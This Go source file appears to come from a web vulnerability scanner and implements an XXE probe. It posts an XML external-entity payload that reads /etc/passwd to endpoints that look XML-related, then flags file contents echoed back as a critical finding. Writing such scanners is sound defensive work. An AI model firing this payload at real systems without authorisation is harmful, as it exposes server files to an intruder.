package probes

import (
	"context"
	"strings"

	"github.com/rs/zerolog"

	"github.com/BetterCallFirewall/tupisec/internal/models"
	"github.com/BetterCallFirewall/tupisec/internal/scan"
)

const xxePayload = `<?xml version="1.0"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root>&xxe;</root>`

// XXE POSTs an XML external-entity payload to discovered endpoints whose
// path hints at XML/SOAP/RPC processing, looking for /etc/passwd content
// reflected back.
func XXE(ctx context.Context, st *scan.State, log zerolog.Logger) error {
	candidates := xmlLikeEndpoints(st)

	for _, u := range candidates {
		resp, err := st.Client.PostXML(ctx, u, xxePayload)
		if err != nil {
			log.Debug().Err(err).Str("url", u).Msg("xxe: request failed")
			continue
		}
		body, err := ReadBody(resp)
		if err != nil {
			continue
		}
		if containsXXEIndicator(body) {
			st.Findings.Add(models.SeverityCritical, "XML External Entity Injection",
				"XXE in XML processing endpoint",
				"Endpoint "+u+" returned local file contents after an external-entity payload.",
				"Disable external entity resolution (DTDs) in the XML parser.")
		}
	}
	return nil
}

func xmlLikeEndpoints(st *scan.State) []string {
	var out []string
	seen := map[string]bool{}
	add := func(u string) {
		lower := strings.ToLower(u)
		for _, hint := range XXEPathHints {
			if strings.Contains(lower, hint) && !seen[u] {
				seen[u] = true
				out = append(out, u)
				return
			}
		}
	}
	add(st.Target.BaseURL())
	for _, u := range st.DiscoveredURLs() {
		add(u)
	}
	return out
}

func containsXXEIndicator(body string) bool {
	for _, indicator := range XXEIndicators {
		if strings.Contains(body, indicator) {
			return true
		}
	}
	return false
}
